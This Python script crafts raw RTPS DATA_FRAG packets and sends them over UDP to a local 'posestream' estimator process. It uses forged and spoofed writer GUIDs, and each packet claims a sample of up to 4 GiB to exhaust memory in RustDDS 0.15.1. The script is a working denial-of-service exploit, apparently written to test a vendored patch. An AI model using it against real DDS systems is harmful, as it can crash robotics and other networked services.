"""Hand-made RTPS DATA_FRAG submessages against a running posestream estimator: each
claims a huge sample (`sampleSize`), which RustDDS 0.15.1 allocated whole on the first
fragment (vendor/rustdds/PATCHES.md). No DDS library sends these; a socket does.

usage: rtps_datafrag.py ESTIMATOR_PID DOMAIN
Sends, to the estimator's UDP ports (found from /proc):
- 4 samples of 1 GiB and one of 4 GiB - 1 from an unmatched, forged writer to its
  heat-map reader (entity id learned through DDS discovery with Python `cyclonedds`);
- 4 samples of 1 GiB to its builtin SEDP publications reader (no discovery needed);
- from a writer it has matched (a real `cyclonedds` DataWriter on the topic, whose GUID
  the packets then carry): one sample of 1 GiB and four of 30 MiB.
Prints one JSON line: what was sent.
"""

import json
import os
import socket
import struct
import sys
import time

pid, domain = int(sys.argv[1]), int(sys.argv[2])
from ros2_types import HeatMaps  # noqa: E402  (DDS on loopback, set on import)

from cyclonedds.builtin import BuiltinDataReader, BuiltinTopicDcpsPublication, BuiltinTopicDcpsSubscription  # noqa: E402
from cyclonedds.core import Policy, Qos  # noqa: E402
from cyclonedds.domain import DomainParticipant  # noqa: E402
from cyclonedds.pub import DataWriter  # noqa: E402
from cyclonedds.topic import Topic  # noqa: E402

GiB, MiB = 1 << 30, 1 << 20


def udp_ports(pid):
    """The UDP ports the process has open (its socket inodes in /proc/net/udp)."""
    inodes = set()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    ports = set()
    with open(f"/proc/{pid}/net/udp") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if fields[9] in inodes:
                ports.add(int(fields[1].split(":")[1], 16))
    return sorted(ports)


def data_frag(prefix, reader, writer, sn, sample_size, frag_size=1024):
    """An RTPS message with one DATA_FRAG (little-endian): the first fragment of a sample."""
    payload = b"\x00\x01\x00\x00" + b"\x00" * 12
    body = (
        struct.pack("<HH", 0, 28)
        + reader
        + writer
        + struct.pack("<iI", sn >> 32, sn & 0xFFFFFFFF)
        + struct.pack("<I", 1)
        + struct.pack("<HH", 1, frag_size)
        + struct.pack("<I", sample_size)
        + payload
    )
    header = b"RTPS" + bytes([2, 4]) + b"\x00\x00" + prefix
    return header + struct.pack("<BBH", 0x16, 0x01, len(body)) + body


base = 7400 + 250 * domain
ports = udp_ports(pid)
participant_id = next((p - base - 10) // 2 for p in ports if p >= base + 10 and (p - base) % 2 == 0)
metatraffic, user = base + 10 + 2 * participant_id, base + 11 + 2 * participant_id

dp = DomainParticipant(domain)
topic = Topic(dp, "rt/posestream/heatmaps", HeatMaps)
qos = Qos(Policy.Reliability.Reliable(max_blocking_time=100_000_000), Policy.Durability.Volatile, Policy.History.KeepLast(10))
writer = DataWriter(dp, topic, qos=qos)
subscriptions = BuiltinDataReader(dp, BuiltinTopicDcpsSubscription)
publications = BuiltinDataReader(dp, BuiltinTopicDcpsPublication)
reader_guid, writer_guid = None, None
deadline = time.time() + 20
while (reader_guid is None or writer_guid is None) and time.time() < deadline:
    for s in subscriptions.take(N=100):
        if s.topic_name == "rt/posestream/heatmaps":
            reader_guid = s.key.bytes
    for p in publications.take(N=100):
        if p.topic_name == "rt/posestream/heatmaps" and p.key == writer.guid:
            writer_guid = p.key.bytes
    time.sleep(0.2)
if reader_guid is None or writer_guid is None:
    sys.exit("the estimator's heat-map reader, or our own writer, was not discovered")
# Matching takes a moment on the estimator's side too.
time.sleep(2.0)

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
reader = reader_guid[12:]
forged = b"\xde\xad\xbe\xef" + struct.pack(">II", 0x5EED0000, 1)
sent = []


def send(port, packet, what):
    sock.sendto(packet, ("127.0.0.1", port))
    sent.append(what)
    time.sleep(0.05)


for sn in range(1, 5):
    send(user, data_frag(forged, reader, b"\x00\x00\x42\x03", sn, GiB), "unmatched 1 GiB")
send(user, data_frag(forged, reader, b"\x00\x00\x42\x03", 5, 0xFFFFFFFF), "unmatched 4 GiB")
for sn in range(1, 5):
    send(metatraffic, data_frag(forged, b"\x00\x00\x03\xc7", b"\x00\x00\x03\xc2", sn, GiB), "SEDP reader 1 GiB")
matched_prefix, matched_writer = writer_guid[:12], writer_guid[12:]
send(user, data_frag(matched_prefix, reader, matched_writer, 1000, GiB), "matched 1 GiB")
for sn in range(1001, 1005):
    send(user, data_frag(matched_prefix, reader, matched_writer, sn, 30 * MiB), "matched 30 MiB")
print(json.dumps({"sent": len(sent), "ports": [metatraffic, user], "reader": reader.hex()}), flush=True)
